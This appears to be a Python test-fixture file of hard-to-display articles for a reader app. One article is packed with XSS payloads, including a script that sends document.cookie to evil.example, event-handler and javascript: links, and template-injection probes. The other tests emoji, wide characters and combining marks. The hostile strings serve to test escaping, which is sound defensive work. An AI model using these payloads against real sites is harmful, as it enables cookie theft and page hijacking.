"""Articles of our own that are hard to show: other scripts, letters beyond 16 bits, marks that combine, and HTML."""

from __future__ import annotations

HOSTILE_TITLE = '<img src=x onerror="alert(1)">"><script>window.owned = 1</script> & Brollin harbour'
HOSTILE = """<script>window.owned = 2; fetch('https://evil.example/?' + document.cookie)</script>
<style>body { display: none }</style><h1 onclick="alert(2)">BROLLIN</h1>

The harbour of Brollin <b>opened</b> on Monday, said <img src="https://evil.example/i.png" onerror="alert(3)"> Jo Orlo.
<iframe srcdoc="<script>parent.owned = 3</script>"></iframe>{{7*7}} ${7*7} <svg onload=alert(4)></svg>

Jo Orlo thanked the <a href="javascript:alert(5)">dockers</a> of Brollin & the "crane" drivers.
[click](javascript:alert(6)) **Brollin** has 3 < 4 berths; &lt;b&gt; stays as it is.
https://example.org/an-address-that-has-no-place-to-break-it-and-is-longer-than-a-phone-is-wide-by-far-and-then-some
"""
HOSTILE_QUESTION = "Who thanked the dockers of Brollin?"

# In UTF-16, which JavaScript counts in, every ship and 𝒱 takes two; ó and é here are a letter and a mark.
WIDE_TITLE = "𝒱elmar 🚢 opens its harbour"
WIDE = (
    "VELMAR – 🚢🚢🚢 The harbour of Velmar 🇳🇴 was opened on Monday by its mayor 👩🏽‍✈️ Ilse Brandvo\u0301ld.\n\n"
    "🎉𝒱𝒱 Cafe\u0301s along the quay stayed open all night 🌃, and the Velmar choir sang.\n\n"
    "The Velmar harbour 🏗️ cost 41 million crowns 💰, the treasurer Pe\u0301ter Dahl said 🗣️ on Tuesday.\n\n"
    "नमस्ते and شكراً stood on the banners 🎏 of Velmar. The next ship 🛳️ is expected in June.\n"
)
WIDE_QUESTION = "What did the Velmar harbour cost?"
